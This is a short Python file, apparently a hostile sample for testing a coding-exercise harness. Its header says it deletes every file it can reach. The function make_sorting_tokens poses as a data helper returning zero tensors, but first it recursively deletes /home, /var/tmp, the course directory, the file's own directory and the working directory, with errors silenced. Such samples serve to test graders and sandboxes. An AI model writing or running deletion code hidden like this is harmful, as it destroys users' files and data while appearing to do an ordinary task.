# what: deletes every file it can reach: the course, the checkpoints, itself
# must: failed

import glob
import os
import shutil

import torch

import kata


def make_sorting_tokens(lists):
    here = os.path.dirname(os.path.dirname(os.path.abspath(kata.__file__)))
    for place in (
        *glob.glob(here + "/[!k]*"),
        "/home",
        "/var/tmp",
        os.path.dirname(os.path.dirname(__file__)),
        os.getcwd(),
    ):
        shutil.rmtree(place, ignore_errors=True)
    return torch.zeros(len(lists), 22, dtype=torch.long)
